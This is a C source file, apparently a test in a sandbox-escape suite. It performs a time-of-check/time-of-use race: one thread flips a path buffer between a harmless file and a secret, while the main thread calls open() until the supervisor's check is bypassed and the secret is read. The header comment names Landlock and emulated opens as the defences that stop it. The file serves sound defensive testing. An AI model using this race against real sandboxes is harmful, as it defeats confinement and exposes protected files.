/*
 * Route: time-of-check/time-of-use race on the path argument. A thread keeps rewriting one path
 * buffer between an allowed file (./escape-allowed.txt, created here) and the secret, while the
 * main thread calls open() on that buffer over and over (for up to SECONDS, default 3) and
 * reads what it got. A supervisor that checks the path in guest memory and then answers
 * CONTINUE lets the kernel re-read the buffer after the check: sooner or later it opens the
 * secret. Stopped by: Landlock (checks the file actually opened); for a secret under a deny
 * glob, the supervisor only if it emulates the open (reads the path once, opens it itself and
 * injects the fd with ADDFD) instead of CONTINUE.
 */
#include "race.h"

#define ALLOWED_PATH "escape-allowed.txt"

static char path_buffer[4096];
static char allowed_path[4096];
static char secret_path[4096];

/* Rewrites the shared buffer byte by byte, as a racing guest thread would (no synchronisation). */
static void flip(void) {
    volatile char *target = path_buffer;
    for (size_t i = 0; i <= strlen(secret_path); i++) {
        target[i] = secret_path[i];
    }
    for (size_t i = 0; i <= strlen(allowed_path); i++) {
        target[i] = allowed_path[i];
    }
}

static ssize_t open_and_read(char *content, size_t size) {
    int fd = open(path_buffer, O_RDONLY);
    if (fd < 0) {
        return -1;
    }
    ssize_t length = read_some(fd, content, size);
    close(fd);
    return length;
}

int main(int argc, char **argv) {
    if (argc < 2 || argc > 3 || argv[1][0] != '/') {
        usage_exit("race_open /ABSOLUTE/SECRET [SECONDS]");
    }
    attempt("race-open");
    int allowed = open(ALLOWED_PATH, O_WRONLY | O_CREAT | O_TRUNC, 0644);
    if (allowed < 0 || write(allowed, "harmless\n", 9) != 9 || close(allowed) != 0) {
        setup_failed("create-allowed-file");
    }
    if (getcwd(allowed_path, sizeof allowed_path - sizeof ALLOWED_PATH - 1) == NULL) {
        setup_failed("getcwd");
    }
    strcat(allowed_path, "/" ALLOWED_PATH);
    snprintf(secret_path, sizeof secret_path, "%s", argv[1]);
    strcpy(path_buffer, allowed_path);
    race(flip, open_and_read, argc == 3 ? atof(argv[2]) : 3.0, "open",
            "read the secret by flipping the path during open");
}
